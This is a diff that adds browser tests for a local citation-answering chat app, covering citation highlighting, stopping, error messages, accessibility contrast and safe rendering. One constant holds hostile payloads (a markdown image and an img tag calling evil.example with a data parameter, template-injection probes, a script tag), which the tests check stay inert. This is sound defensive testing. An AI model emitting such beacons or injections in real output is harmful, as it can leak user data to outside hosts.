@@ -1,0 +1,319 @@
+"""The chat in a real browser, over the real assistant and over one that misbehaves."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from threading import Event
+from typing import TYPE_CHECKING, Any, cast
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect, sync_playwright
+
+from assistant import Assistant
+from assistant.answer import Abstention, Answer, Citation, Reason, Statement, Support
+from assistant.errors import LLMUnavailableError, SettingsError
+from assistant.web.app import build, start
+from assistant.web.page import EXAMPLES, LOOK, shown
+from index import Library
+from index.article import Article
+
+if TYPE_CHECKING:
+    import gradio as gr
+
+pytestmark = [
+    pytest.mark.browser,
+    # Gradio keeps count of its events with what has had its day in pandas.
+    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting'"),
+    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
+]
+
+CHROMIUM = "/usr/bin/chromium"
+FLAGS = (
+    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync"
+).split()
+QUESTION = "On what date did the Syrian opposition walk out of the Geneva talks?"
+HOSTILE = "![](http://evil.example/?d=1) <img src=http://evil.example/2> ${1+1} {{1+1}} $$x$$ *a*"
+
+
+class Scripted:
+    """An assistant, and its every conversation, that does what the question says."""
+
+    def __init__(self, library: Library) -> None:
+        self.library = library
+        self.article: Article = next(library.articles())
+        self.closed = Event()
+
+    def describe(self) -> str:
+        return "scripted <model>"
+
+    def conversation(self) -> Scripted:
+        return self
+
+    async def astream(self, question: str) -> AsyncIterator[str | Answer]:
+        try:
+            yield "The first sentence. [1]"
+            if question == "wait":
+                await asyncio.sleep(600)
+            if question == "fail":
+                raise LLMUnavailableError("The model cannot be reached: start its server.")
+            if question == "bug":
+                raise RuntimeError("secret detail")
+            yield self.answer(question)
+        finally:
+            self.closed.set()
+
+    def answer(self, question: str) -> Answer:
+        refusal = Abstention(Reason.NOT_ANSWERED, "Nothing.") if question == "refuse" else None
+        statement = Statement(HOSTILE, (1,), Support.UNVERIFIED)
+        citation = Citation(1, self.article, 0, 400)
+        return Answer(question, (statement,), (citation,), refusal, (), "generative")
+
+
+@contextmanager
+def served(assistant: object) -> Iterator[str]:
+    blocks = start(cast("Assistant", assistant), "127.0.0.1", 0)
+    try:
+        yield str(blocks.local_url)
+    finally:
+        blocks.close(verbose=False)
+
+
+@pytest.fixture(scope="module")
+def real(assistant: Assistant) -> Iterator[str]:
+    with served(assistant) as url:
+        yield url
+
+
+@pytest.fixture(scope="module")
+def scripted(library: Library) -> Scripted:
+    return Scripted(library)
+
+
+@pytest.fixture(scope="module")
+def scripted_url(scripted: Scripted) -> Iterator[str]:
+    with served(scripted) as url:
+        yield url
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
+    profile = tmp_path_factory.mktemp("profile")
+    with sync_playwright() as playwright:
+        context = playwright.chromium.launch_persistent_context(
+            profile, executable_path=CHROMIUM, headless=True, args=FLAGS
+        )
+        yield context
+        context.close()
+
+
+@pytest.fixture
+def page(browser: BrowserContext) -> Iterator[Page]:
+    """A page that must stay on this machine and free of errors."""
+    requests: list[str] = []
+    errors: list[str] = []
+    page = browser.new_page()
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    yield page
+    page.close()
+    inside = ("http://127.0.0.1:", "data:", "blob:")
+    assert [url for url in requests if not url.startswith(inside)] == []
+    assert errors == []
+
+
+def opened(page: Page, url: str) -> Page:
+    page.goto(url)
+    expect(page.locator("#shelf .corpus li")).to_have_count(5)
+    return page
+
+
+def ask(page: Page, question: str) -> None:
+    page.get_by_label("Your question").fill(question)
+    page.keyboard.press("Enter")
+
+
+def test_a_click_on_a_citation_marks_exactly_its_quote(
+    page: Page, real: str, assistant: Assistant, tmp_path: Path
+) -> None:
+    citation = assistant.ask(QUESTION).citations[0]
+    opened(page, real)
+    ask(page, QUESTION)
+    page.get_by_role("link", name="[1]").first.click()
+    mark = page.locator("#shelf mark")
+    expect(mark).to_be_in_viewport()
+    assert mark.evaluate("mark => mark.textContent") == citation.quote
+    assert "April 21" in citation.quote
+    expect(mark).to_be_focused()
+    assert citation.article.title
+    expect(page.locator("#shelf h2")).to_have_text(citation.article.title)
+    expect(page.get_by_label("Your question")).to_have_value("")
+    page.screenshot(path=tmp_path / "cited.png")
+
+
+def test_a_follow_up_is_understood_and_a_new_conversation_forgets(page: Page, real: str) -> None:
+    opened(page, real)
+    ask(page, "Who is Yury Barmin?")
+    expect(page.locator(".sources .number").first).to_be_visible()
+    ask(page, "What does he say about Aleppo?")
+    expect(page.locator("#messages .note")).to_contain_text("Understood as: What does Yury Barmin")
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.locator("#messages .question")).to_have_count(0)
+    ask(page, "What does he say about Aleppo?")
+    expect(page.locator("#messages .answer, #messages .refusal")).to_have_count(1)
+    expect(page.locator("#messages .note")).to_have_count(0)
+
+
+def test_an_example_is_asked_with_one_click(page: Page, real: str) -> None:
+    opened(page, real)
+    buttons = page.locator("#messages button.example")
+    expect(buttons).to_have_count(4)
+    question = buttons.last.inner_text()
+    buttons.last.click()
+    expect(page.locator("#messages .question")).to_have_text(question)
+    expect(page.locator("#messages .sources")).to_be_visible()
+
+
+def test_every_example_is_answered(assistant: Assistant) -> None:
+    for path, question in EXAMPLES.items():
+        answer = assistant.ask(question)
+        assert path in {citation.article.path for citation in answer.citations}
+
+
+def test_the_reader_goes_from_list_to_article_and_back_by_keyboard(page: Page, real: str) -> None:
+    opened(page, real)
+    page.locator("#shelf .source").first.focus()
+    page.keyboard.press("Enter")
+    expect(page.locator("#shelf article")).to_be_visible()
+    expect(page.locator("#shelf mark")).to_have_count(0)
+    page.get_by_role("link", name="All articles").click()
+    expect(page.locator("#shelf .corpus li")).to_have_count(5)
+
+
+def test_on_a_narrow_screen_the_reader_lies_over_the_chat(page: Page, scripted_url: str) -> None:
+    page.set_viewport_size({"width": 390, "height": 800})
+    page.goto(scripted_url)
+    ask(page, "go")
+    link = page.get_by_role("link", name="[1]")
+    expect(page.locator("#shelf")).to_be_hidden()
+    link.click()
+    expect(page.locator("#shelf mark")).to_be_in_viewport()
+    page.keyboard.press("Escape")
+    expect(page.locator("#shelf")).to_be_hidden()
+    expect(link).to_be_focused()
+    link.click()
+    page.get_by_label("Close the reader").click()
+    expect(page.locator("#shelf")).to_be_hidden()
+
+
+def test_hostile_text_stays_text(page: Page, scripted_url: str, scripted: Scripted) -> None:
+    opened(page, scripted_url)
+    ask(page, f"<script>alert(1)</script> {HOSTILE}")
+    expect(page.locator("#messages .unverified")).to_contain_text(HOSTILE)
+    expect(page.locator("#messages .flag")).to_have_text("⚠ Unverified")
+    expect(page.locator("#messages .question")).to_have_text(f"<script>alert(1)</script> {HOSTILE}")
+    expect(page.locator("#messages img, #messages .katex")).to_have_count(0)
+    expect(page.locator("#banner p")).to_have_text("scripted <model>")
+    page.get_by_role("link", name="[1]").click()
+    mark = page.locator("#shelf mark")
+    expect(mark).to_be_visible()
+    assert mark.evaluate("mark => mark.textContent") == scripted.article.text[:400]
+
+
+def test_stop_keeps_what_there_is_and_ends_the_work(
+    page: Page, scripted_url: str, scripted: Scripted
+) -> None:
+    opened(page, scripted_url)
+    scripted.closed.clear()
+    ask(page, "wait")
+    expect(page.locator("#messages .answer")).to_contain_text("The first sentence.")
+    page.get_by_role("button", name="Stop").click()
+    expect(page.locator("#messages .stopped")).to_be_visible()
+    expect(page.locator("#messages .answer")).to_contain_text("The first sentence.")
+    expect(page.get_by_role("button", name="Ask")).to_be_visible()
+    assert scripted.closed.wait(5)
+    ask(page, "go")
+    expect(page.locator("#messages .unverified")).to_be_visible()
+
+
+@pytest.mark.parametrize(
+    ("question", "words"),
+    [
+        ("fail", "The model cannot be reached: start its server."),
+        ("bug", "Something went wrong inside Verbatim"),
+    ],
+)
+def test_an_error_is_readable_and_the_next_question_works(
+    page: Page, scripted_url: str, question: str, words: str
+) -> None:
+    opened(page, scripted_url)
+    ask(page, question)
+    expect(page.locator("#messages .failure")).to_contain_text(words)
+    expect(page.locator("#messages")).not_to_contain_text("secret detail")
+    ask(page, "refuse")
+    expect(page.locator("#messages .refusal")).to_contain_text("No answer in these articles")
+
+
+def test_a_blank_question_is_not_asked(page: Page, scripted_url: str) -> None:
+    opened(page, scripted_url)
+    ask(page, "   ")
+    ask(page, "go")
+    expect(page.locator("#messages .question")).to_have_count(1)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_stands_out_from_its_ground(page: Page, scripted_url: str, scheme: Any) -> None:
+    page.emulate_media(color_scheme=scheme)
+    opened(page, scripted_url)
+    ask(page, "go")
+    page.get_by_role("link", name="[1]").click()
+    expect(page.locator("#shelf mark")).to_be_visible()
+    for place in ("#messages .question", "#messages .about", "#messages .quote", "#shelf mark"):
+        assert page.locator(place).first.evaluate(CONTRAST) >= 4.5, place
+
+
+# The contrast ratio of WCAG 2.2 between an element's colour and the nearest painted ground.
+CONTRAST = """
+element => {
+  const parse = (colour) => (colour.match(/[\\d.]+/g) || []).map(Number);
+  const light = ([r, g, b]) => [r, g, b]
+    .map((v) => v / 255)
+    .map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
+    .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
+  let ground = [255, 255, 255];
+  for (let one = element; one; one = one.parentElement) {
+    const [r, g, b, a = 1] = parse(getComputedStyle(one).backgroundColor);
+    if (a > 0.5) { ground = [r, g, b]; break; }
+  }
+  const [dark, bright] = [light(parse(getComputedStyle(element).color)), light(ground)].sort();
+  return (Math.max(dark, bright) + 0.05) / (Math.min(dark, bright) + 0.05);
+}
+"""
+
+
+@pytest.mark.parametrize(
+    "where", [["gone"], ["gone", 0, 1], [1], ["a", "b", "c"], {"x": 1}, "text", [None, 1, 2]]
+)
+def test_whatever_a_browser_sends_is_answered_with_words(library: Library, where: object) -> None:
+    assert 'role="alert"' in shown(library, where)
+
+
+@pytest.mark.parametrize(("start", "end"), [(-1, 4), (5, 4), (0, 10**9)])
+def test_no_place_outside_the_article_is_shown(library: Library, start: int, end: int) -> None:
+    article = next(library.articles())
+    assert "no place in this article" in shown(library, [article.id, start, end])
+
+
+def test_nothing_of_the_page_is_a_public_interface(library: Library) -> None:
+    blocks: gr.Blocks = build(cast("Assistant", Scripted(library)))
+    assert {function.api_visibility for function in blocks.fns.values()} == {"private"}
+    assert LOOK["theme"]._stylesheets == []
+
+
+def test_a_taken_port_is_an_error_with_the_remedy(scripted_url: str, scripted: Scripted) -> None:
+    port = int(scripted_url.rstrip("/").rsplit(":", 1)[1])
+    with pytest.raises(SettingsError, match=f"port {port} .*--port"):
+        start(cast("Assistant", scripted), "127.0.0.1", port)
